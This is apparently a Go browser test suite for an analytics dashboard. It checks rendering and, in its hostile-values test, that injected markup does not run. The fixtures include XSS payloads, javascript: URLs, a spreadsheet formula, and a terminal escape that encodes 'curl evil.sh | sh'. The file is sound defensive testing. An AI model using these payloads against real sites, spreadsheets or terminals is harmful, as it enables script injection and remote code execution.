package dashboard_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/eventlake/eventlake/athena/api"
	"github.com/eventlake/eventlake/athena/dashboard"
	"github.com/eventlake/eventlake/athena/lakegen"
	"github.com/eventlake/eventlake/internal/browsertest"
	"github.com/eventlake/eventlake/tracker"
)

// adminStub stands for the per-user admin page: it records the user IDs
// the dashboard's links ask for.
type adminStub struct {
	mu    sync.Mutex
	users []string
}

func (a *adminStub) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	a.users = append(a.users, r.URL.Query().Get("user"))
	a.mu.Unlock()
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	io.WriteString(w, "admin page")
}

func (a *adminStub) list() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.users)
}

// serve starts the API, the dashboard and the admin stub over a lake.
func serve(t *testing.T, extra ...lakegen.Event) (*httptest.Server, *adminStub, *stack) {
	t.Helper()
	_, db := demoLake(t, extra...)
	s := newStack(t, api.Config{Runner: db}, dashboard.Config{UserURL: "/admin/activity?user="})
	admin := &adminStub{}
	s.mux.Handle("GET /admin/activity", admin)
	// Chromium asks for a favicon when it shows the stub's plain text.
	s.mux.HandleFunc("GET /favicon.ico", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	srv := httptest.NewServer(s.mux)
	t.Cleanup(srv.Close)
	return srv, admin, s
}

// panelState is what a panel shows, as the browser sees it.
type panelState struct {
	ID            string
	Empty, Error  string
	Marks         int // bars and lines of the visible charts
	Charts        int // visible charts
	Rows          int
	Stats         int
	Ages          []string
	CSV, JSON     []string
	HiddenCharts  int
	LegendEntries int
}

const panelsJS = `[...document.querySelectorAll('section.panel')].map(p => {
	const visible = [...p.querySelectorAll('svg.chart')].filter(s => getComputedStyle(s).display !== 'none');
	return {
		ID: p.id,
		Empty: p.querySelector('.empty') ? p.querySelector('.empty').textContent : '',
		Error: p.querySelector('.error') ? p.querySelector('.error').textContent : '',
		Charts: visible.length,
		HiddenCharts: p.querySelectorAll('svg.chart').length - visible.length,
		Marks: visible.reduce((n, s) => n + s.querySelectorAll('rect, polyline').length, 0),
		Rows: p.querySelectorAll('table.rows tbody tr').length,
		Stats: p.querySelectorAll('.stats dd').length,
		Ages: [...p.querySelectorAll('time.age')].map(t => t.textContent),
		CSV: [...p.querySelectorAll('a.csv')].map(a => a.getAttribute('href')),
		JSON: [...p.querySelectorAll('a.json')].map(a => a.getAttribute('href')),
		LegendEntries: p.querySelectorAll('.legend li').length,
	};
})`

// overflowJS lists the elements that reach past the viewport's sides (none
// may: nothing scrolls sideways), with the page's scroll width.
const overflowJS = `(() => {
	const w = document.documentElement.clientWidth;
	const bad = [];
	for (const el of document.querySelectorAll('body *')) {
		const r = el.getBoundingClientRect();
		if (r.width === 0 && r.height === 0) continue;
		if (r.right > w + 0.5 || r.left < -0.5) {
			const p = el.closest('section.panel');
			bad.push(el.tagName.toLowerCase() + '.' + (el.getAttribute('class') || '') + ' in #' + (p ? p.id : '-') +
				' [' + Math.round(r.left) + ', ' + Math.round(r.right) + '] ' + (el.textContent || '').slice(0, 40));
		}
	}
	return {Width: w, Scroll: document.documentElement.scrollWidth, Bad: bad.slice(0, 12), Count: bad.length};
})()`

type overflow struct {
	Width, Scroll, Count int
	Bad                  []string
}

// chartPanels draw data; the others show tables (and the overview its
// figures).
var chartPanels = []string{"active-users", "active-visitors", "logins", "devices", "clicks", "sessions", "frequency", "attribution", "campaigns"}

// TestDashboardInBrowser renders the dashboard over the demo's lake in
// headless Chromium at a laptop's width (1280 px) and a phone's (390 px):
// every chart and table has data and says how old it is, every CSV and JSON
// link answers, nothing reaches past the viewport, the stylesheet applies
// (its CSP hash is right), nothing reaches the console, user IDs link to
// the admin page, the range form works; and it keeps screenshots in
// test-artifacts/.
func TestDashboardInBrowser(t *testing.T) {
	srv, admin, _ := serve(t)
	ctx := browsertest.New(t)
	console := browsertest.RecordConsole(t, ctx)

	for _, vp := range []struct {
		name          string
		width, height int64
		shot          string
	}{{"laptop", 1280, 900, "dashboard-laptop.png"}, {"phone", 390, 844, "dashboard-phone.png"}} {
		t.Run(vp.name, func(t *testing.T) {
			browsertest.Do(t, ctx, chromedp.EmulateViewport(vp.width, vp.height), chromedp.Navigate(srv.URL+"/dashboard"))
			if w := browsertest.Eval[int](t, ctx, `document.documentElement.clientWidth`); w != int(vp.width) {
				t.Fatalf("viewport %d px wide, want %d", w, vp.width)
			}
			panels := browsertest.Eval[[]panelState](t, ctx, panelsJS)
			if len(panels) != 12 {
				t.Fatalf("%d panels, want 12", len(panels))
			}
			for _, p := range panels {
				if p.Empty != "" || p.Error != "" {
					t.Errorf("%s: empty %q, error %q", p.ID, p.Empty, p.Error)
				}
				switch {
				case slices.Contains(chartPanels, p.ID):
					if p.Charts != 1 || p.HiddenCharts != 1 || p.Marks == 0 {
						t.Errorf("%s: %d visible charts (%d hidden) with %d bars and lines; want one drawn for this width", p.ID, p.Charts, p.HiddenCharts, p.Marks)
					}
				case p.ID == "overview":
					if p.Stats != 6 {
						t.Errorf("overview: %d figures, want 6", p.Stats)
					}
				default:
					if p.Rows == 0 {
						t.Errorf("%s: no rows", p.ID)
					}
				}
				if len(p.Ages) == 0 || len(p.Ages) != len(p.CSV) || len(p.CSV) != len(p.JSON) {
					t.Errorf("%s: ages %q, CSV %q, JSON %q: each source needs its age and links", p.ID, p.Ages, p.CSV, p.JSON)
				}
				for _, a := range p.Ages {
					if a != "computed just now" {
						t.Errorf("%s: age %q", p.ID, a)
					}
				}
			}
			if vp.name == "laptop" {
				checkLinks(t, srv.URL, panels)
			}
			if o := browsertest.Eval[overflow](t, ctx, overflowJS); o.Count != 0 || o.Scroll > o.Width {
				t.Errorf("at %d px: the page is %d px wide; %d elements reach past the viewport: %q", o.Width, o.Scroll, o.Count, o.Bad)
			}
			// The stylesheet applies: its hash in the CSP is right.
			if bg := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector('section.panel')).backgroundColor`); bg != "rgb(255, 255, 255)" {
				t.Errorf("panel background %q: the stylesheet was blocked", bg)
			}
			browsertest.Screenshot(t, ctx, vp.shot)
			if errs := console.Errors(t); len(errs) != 0 {
				t.Errorf("console errors: %q", errs)
			}
		})
	}

	t.Run("links and form", func(t *testing.T) {
		browsertest.Do(t, ctx, chromedp.EmulateViewport(1280, 900), chromedp.Navigate(srv.URL+"/dashboard"))
		// A user ID in a table links to the admin page with the ID.
		user := browsertest.Eval[string](t, ctx, `document.querySelector('#rotting td.user a').textContent`)
		browsertest.Run(t, ctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Click(chromedp.CSS("#rotting td.user a"))))
		if got := admin.list(); len(got) != 1 || got[0] != user {
			t.Errorf("the admin page was asked for %q, want the user %q", got, user)
		}
		// The range form.
		browsertest.Do(t, ctx, chromedp.Navigate(srv.URL+"/dashboard"))
		to := time.Now().UTC().AddDate(0, 0, -3).Format(tracker.DateLayout)
		from := time.Now().UTC().AddDate(0, 0, -9).Format(tracker.DateLayout)
		browsertest.Do(t, ctx, chromedp.SetValue(chromedp.CSS("input[name=from]"), from), chromedp.SetValue(chromedp.CSS("input[name=to]"), to))
		browsertest.Run(t, ctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Click(chromedp.CSS("form.range button"))))
		q, _ := url.ParseQuery(strings.TrimPrefix(browsertest.Eval[string](t, ctx, `location.search`), "?"))
		if q.Get("from") != from || q.Get("to") != to {
			t.Errorf("form submitted %v", q)
		}
		days := browsertest.Eval[int](t, ctx, `document.querySelectorAll('#logins svg.chart.wide rect').length`)
		if days != 7 {
			t.Errorf("the logins chart of %s..%s has %d bars, want 7", from, to, days)
		}
		// "Last 7 days" is the current range after clicking it.
		browsertest.Run(t, ctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Click(chromedp.CSS("nav.ranges a:first-child"))))
		if cur := browsertest.Eval[string](t, ctx, `document.querySelector('nav.ranges a[aria-current]').textContent`); cur != "Last 7 days" {
			t.Errorf("current range %q", cur)
		}
		if errs := console.Errors(t); len(errs) != 0 {
			t.Errorf("console errors: %q", errs)
		}
	})
}

// checkLinks fetches every CSV and JSON link of the page.
func checkLinks(t *testing.T, base string, panels []panelState) {
	t.Helper()
	for _, p := range panels {
		for i, link := range append(slices.Clone(p.CSV), p.JSON...) {
			resp, err := http.Get(base + link)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			want := "application/json; charset=utf-8"
			if i < len(p.CSV) {
				want = "text/csv; charset=utf-8"
			}
			if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != want || len(body) == 0 {
				t.Errorf("%s: %s: %s %s", p.ID, link, resp.Status, resp.Header.Get("Content-Type"))
			}
		}
	}
}

// hostileEvents is a history whose client-controlled values are attacks:
// a visitor from a campaign whose utm values are markup, identified as a
// user whose ID is markup, who signs up, logs in from five networks and
// four devices whose names are markup, and stops coming back (so the user
// is in the attribution, campaign, devices, sharing and rotting panels);
// and a user whose ID is a spreadsheet formula with a terminal escape.
func hostileEvents(act func(tag string) string) (events []lakegen.Event, texts []string) {
	day := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, -20)
	at := func(min int) string {
		return day.Add(10*time.Hour + time.Duration(min)*time.Minute).Format(tracker.TimeLayout)
	}
	user := `mallory"><script>` + act("user") + `</script>`
	formula := "=HYPERLINK(\"javascript:" + act("formula") + "\",\"x\")\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	anon := `anon-<img src=x onerror="` + act("anon") + `">`
	attrs := map[string]string{
		tracker.AttrURL:         "https://shop.example/?x=" + url.QueryEscape(act("url")),
		tracker.AttrUTMSource:   `<svg onload="` + act("svg") + `"></svg>`,
		tracker.AttrUTMMedium:   "javascript:" + act("medium"),
		tracker.AttrUTMCampaign: `</text></svg><script>` + act("campaign") + `</script>`,
		tracker.AttrReferrer:    `"><iframe src="/hit/iframe"></iframe>`,
	}
	add := func(e lakegen.Event) {
		e.Dt = e.EventAt[:10]
		events = append(events, e)
	}
	add(lakegen.Event{AnonymousID: anon, EventAt: at(0), EventID: "h-0", EventType: "page_view", Attributes: attrs})
	add(lakegen.Event{UserID: user, AnonymousID: anon, EventAt: at(5), EventID: "h-1", EventType: tracker.TypeIdentify})
	add(lakegen.Event{UserID: user, EventAt: at(6), EventID: "h-2", EventType: "signup"})
	for i := range 5 {
		add(lakegen.Event{UserID: user, EventAt: at(10 + i), EventID: fmt.Sprintf("h-l%d", i), EventType: "login",
			IPAddress: fmt.Sprintf("203.0.%d.7", 100+i), DeviceType: "desktop", Browser: `<b onmouseover="` + act("browser") + `">Chrome</b>`,
			OS: fmt.Sprintf(`OS %d </td><script>%s</script>`, i%4, act("os"))})
	}
	add(lakegen.Event{UserID: formula, EventAt: at(30), EventID: "h-f", EventType: "login"})
	return events, []string{user, formula, attrs[tracker.AttrUTMCampaign], attrs[tracker.AttrUTMMedium]}
}

// TestHostileValuesExecuteNothing puts attacks in every client-controlled
// value the dashboard shows (user IDs in links and tables, campaign and
// source names in SVG labels and titles, browsers and systems, terminal
// escapes and spreadsheet formulas) and checks that nothing runs and every
// value shows as text: with the page's CSP, and again with the CSP
// bypassed, so that escaping alone is tested; a control page proves the
// detection fires.
func TestHostileValuesExecuteNothing(t *testing.T) {
	hits := &browsertest.Hits{}
	hitSrv := httptest.NewServer(hits)
	defer hitSrv.Close()
	act := func(tag string) string {
		return fmt.Sprintf("window.pwned=1;document.title='pwned';fetch('%s/hit/%s')", hitSrv.URL, tag)
	}
	events, texts := hostileEvents(act)
	srv, _, _ := serve(t, events...)
	ctx := browsertest.New(t)
	console := browsertest.RecordConsole(t, ctx)
	pageURL := srv.URL + "/dashboard"

	type result struct {
		Title     string
		Pwned     bool
		Active    []string
		Text      string
		UserLinks []string
	}
	check := func(t *testing.T, mode string) {
		t.Helper()
		res := browsertest.Eval[result](t, ctx, `({
			Title: document.title,
			Pwned: window.pwned === 1,
			Active: [...document.querySelectorAll('*')].filter(el =>
				['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'FOREIGNOBJECT', 'B'].includes(el.tagName.toUpperCase()) ||
				(el.tagName.toLowerCase() === 'svg' && !el.classList.contains('chart')) ||
				[...el.attributes].some(a => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value))
			).map(el => el.outerHTML.slice(0, 80)),
			Text: document.body.textContent,
			UserLinks: [...document.querySelectorAll('td.user a')].map(a => a.getAttribute('href')),
		})`)
		if !strings.HasPrefix(res.Title, "eventlake analytics") || res.Pwned {
			t.Errorf("%s: title %q, window.pwned %v: a payload ran", mode, res.Title, res.Pwned)
		}
		if len(res.Active) != 0 {
			t.Errorf("%s: markup from the data became elements: %q", mode, res.Active)
		}
		for _, v := range texts {
			// Control characters show as nothing; the rest as text.
			shown := strings.Map(func(r rune) rune {
				if r < 0x20 {
					return -1
				}
				return r
			}, v)
			if !strings.Contains(strings.Map(func(r rune) rune {
				if r < 0x20 {
					return -1
				}
				return r
			}, res.Text), shown) {
				t.Errorf("%s: %q is not shown as text", mode, v)
			}
		}
		for _, l := range res.UserLinks {
			if !strings.HasPrefix(l, "/admin/activity?user=") || strings.ContainsAny(l, `<>"' `) {
				t.Errorf("%s: user link %q", mode, l)
			}
		}
		if !slices.Contains(res.UserLinks, "/admin/activity?user="+url.QueryEscape(texts[0])) {
			t.Errorf("%s: no link to the hostile user's page among %q", mode, res.UserLinks)
		}
		if errs := console.Errors(t); len(errs) != 0 {
			t.Errorf("%s: console errors %q", mode, errs)
		}
		browsertest.Do(t, ctx, chromedp.Navigate("about:blank"))
		if h := hits.List(); len(h) != 0 {
			t.Errorf("%s: the page made requests %q", mode, h)
		}
	}

	browsertest.Do(t, ctx, chromedp.EmulateViewport(1280, 900), chromedp.Navigate(pageURL))
	// The hostile user is where the attack aims: in the tables.
	for _, id := range []string{"rotting", "sharing", "attribution"} {
		if n := browsertest.Eval[int](t, ctx, `[...document.querySelectorAll('#`+id+` td.user a')].filter(a => a.textContent.includes('mallory')).length`); n == 0 {
			t.Errorf("the hostile user is not in #%s: the test misses its target", id)
		}
	}
	browsertest.Screenshot(t, ctx, "dashboard-injection.png")
	check(t, "with CSP")

	browsertest.Do(t, ctx, chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		_, err := cdp.Call(ctx, tab, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true})
		return err
	}))
	browsertest.Do(t, ctx, chromedp.Navigate(pageURL))
	check(t, "CSP bypassed")

	browsertest.CheckDetection(t, ctx, hits, hitSrv.URL)
}
